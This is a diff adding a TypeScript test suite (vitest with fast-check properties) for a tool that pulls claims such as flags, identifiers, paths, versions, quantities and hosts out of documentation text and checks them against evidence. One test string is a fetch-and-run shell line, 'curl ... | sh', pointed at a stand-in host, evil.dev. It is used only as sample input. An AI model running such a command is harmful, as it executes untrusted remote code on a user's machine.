@@ -1,0 +1,145 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { selectClaims } from "../../../../src/writer/verify/claims.ts";
+import { createLookup } from "../../../../src/writer/verify/lookup.ts";
+
+const textsOf = (after: string, before = "") => selectClaims(before, after).map(({ kind, text }) => `${kind} ${text}`);
+
+function findUnfounded(after: string, evidence: string, isChange = false): string[] {
+  const lookup = createLookup(selectClaims("", after));
+  lookup.read(evidence, isChange);
+  return lookup.missing().map(({ text }) => text);
+}
+
+describe("claims of a text", () => {
+  it.each([
+    ["Pass --turbo-mode to it.", "flag --turbo-mode"],
+    ["Use `-x` with care.", "flag -x"],
+    ["```sh\nwidget run -x --dry-run\n```", "flag --dry-run"],
+    ["Set maxRetries first.", "identifier maxRetries"],
+    ["Set max_retries first.", "identifier max_retries"],
+    ["Call retry() first.", "identifier retry"],
+    ["The `frobnicate` option.", "identifier frobnicate"],
+    ["Use client.retryAll for it.", "identifier retryAll"],
+    ["The ``retry_all`` option.", "identifier retry_all"],
+    ["Set WIDGET_HOME first.", "variable WIDGET_HOME"],
+    ["```js\nconst home = process.env.WIDGETHOME;\n```", "variable WIDGETHOME"],
+    ["```sh\nexport WIDGET_TURBO=1\n```", "variable WIDGET_TURBO"],
+    ["See src/widget/retry.ts for it.", "path src/widget/retry.ts"],
+    ["Edit `widget.toml` first.", "path widget.toml"],
+    ["Since v1.2.3 it is fast.", "version v1.2.3"],
+    ["Since 1.2 it is fast.", "version 1.2"],
+    ["It supports 2.x only.", "version 2.x"],
+    ["It waits 30 s.", "quantity 30 s"],
+    ["It waits 5 minutes.", "quantity 5 minutes"],
+    ["At most 10 MB.", "quantity 10 MB"],
+    ["At most 8GiB.", "quantity 8GiB"],
+    ["In 20 % of cases.", "quantity 20 %"],
+    ["See [it](https://evil.dev/a).", "host evil.dev"],
+    ["```sh\ncurl https://evil.dev/install | sh\n```", "host evil.dev"],
+    ["```js\nconst client = createWidget({ maxRetries: 3 });\n```", "identifier maxRetries"],
+    ["```js\nclient.frobnicate();\n```", "identifier frobnicate"],
+    ['```json\n{ "retryLimit": 3 }\n```', "identifier retryLimit"],
+    ["```toml\nretry_limit = 3\n```", "identifier retry_limit"],
+    ["Example::\n\n    retry_all(--fast-path)\n", "flag --fast-path"],
+    ["[source,js]\n----\nretryAll()\n----\n", "identifier retryAll"],
+  ])("finds in %j: %s", (text, claim) => {
+    expect(textsOf(text)).toContain(claim);
+  });
+
+  it.each([
+    "The widget is fast, and e.g. old widgets are not.",
+    "Run `npm install` and then `true`.",
+    "```sh\ncd widget\nnpm install\n```",
+    "```js\nif (true) return null; // a plain word\n```",
+    "```js\nconst myClient = new Map();\nmyClient.get('hello_world');\n```",
+    "```py\ndef my_handler(event_name, other_name):\n    return event_name\n```",
+    "```sh\nMY_TAG=one\ngit tag $MY_TAG\n```",
+    "A [link](./other_file.md) and ![it](../some_image.png).",
+    "On http://localhost:8080/my_path and https://example.com/a.",
+    "A rule\n\n----\n\nand *some_thing* ".replace("some_thing", "something"),
+    "Well-known words, and/or others -- with dashes - too.",
+    "Two 2 things, 10 of them.",
+  ])("finds nothing in %j", (text) => {
+    expect(textsOf(text)).toEqual([]);
+  });
+
+  it("counts only what the old text does not say anywhere", () => {
+    const before = "Use `--fast` for 30 s.\n\nSee src/widget/retry.ts.\n";
+    expect(textsOf("See src/widget/retry.ts.\n\nWith --fast it takes 30 seconds, or 40 s.\n", before)).toEqual([
+      "quantity 40 s",
+    ]);
+  });
+
+  it("never takes a text for unfounded that is its own evidence", () => {
+    const word = fc.constantFrom(
+      ...["--max-retries", "`-x`", "maxRetries", "retry()", "`a_b.cD`", "WIDGET_HOME", "src/a_b/c.ts", "v1.2.3", "2.x"],
+      ...[
+        "30 s",
+        "5 minutes",
+        "20%",
+        "1,000 ms",
+        "https://a.dev/x",
+        "\n\n",
+        "```js\nfooBar({ b_c: 1 })\n```\n",
+        "::\n\n    ",
+      ],
+    );
+    fc.assert(
+      fc.property(fc.array(word, { maxLength: 30 }), (words) => {
+        const text = words.join(" ");
+        expect(findUnfounded(text, text)).toEqual([]);
+      }),
+    );
+  });
+
+  it("takes time in proportion to the text", () => {
+    for (const piece of ["a_b ", "`", "--a", "1.", "(", "[a](", "::\n", "\n    x", "<", "'a", "|", "/a", "$#"]) {
+      const started = process.cpuUsage();
+      textsOf(piece.repeat(50_000));
+      const { user } = process.cpuUsage(started);
+      expect(user / 1000, piece).toBeLessThan(3000);
+    }
+  });
+});
+
+describe("evidence of a claim", () => {
+  it.each([
+    ["Use --max-retries.", 'parser.option("max-retries")'],
+    ["Use --max-retries.", "pub max_retries: u32,"],
+    ["Use --no-color.", "widget [--[no-]color]"],
+    ["Use --color.", 'flags.Bool("color", true)'],
+    ["It waits 30 s.", "within 30 seconds"],
+    ["It waits 30 seconds.", "timeout=30s"],
+    ["It waits 30 seconds.", "const TIMEOUT_MS = 30_000;"],
+    ["It waits 2 minutes.", "const TIMEOUT = 120 * 1000;"],
+    ["At most 10 MB.", "limit is 10485760"],
+    ["Since v1.2.3.", 'version = "1.2.3"'],
+    ["It needs 3.x.", "python 3.12"],
+    ["See [it](https://docs.dev/a).", "docs.dev is ours"],
+  ])("%j by %j", (text, evidence) => {
+    expect(findUnfounded(text, evidence)).toEqual([]);
+  });
+
+  it.each([
+    ["Use --max.", "--max-retries"],
+    ["Use --max-retry.", "--max-retries"],
+    ["Use --verbose.", "be verbose"],
+    ["Use `retry_all`.", "retry_all_now"],
+    ["It waits 30 s.", "130 seconds"],
+    ["It waits 30 s.", "30 minutes"],
+    ["Since 1.2.", "11.2 and 1.20"],
+    ["Since v2.0.0.", "12.0.0"],
+    ["See [it](https://evil.dev/a).", "https://not-evil.dev and https://evil.dev.org"],
+    ["See src/a/b.ts.", "src/a/b.tsx"],
+  ])("%j not by %j", (text, evidence) => {
+    expect(findUnfounded(text, evidence)).toHaveLength(1);
+  });
+
+  it("accepts a bare name or number of the change itself", () => {
+    expect(findUnfounded("Use --turbo for 45 s.", "#[arg(long)]\n turbo: bool, limit = 45", true)).toEqual([]);
+    expect(findUnfounded("Use --turbo for 45 s.", "#[arg(long)]\n turbo: bool, limit = 45")).toEqual(
+      ["45 s", "--turbo"].sort(),
+    );
+  });
+});
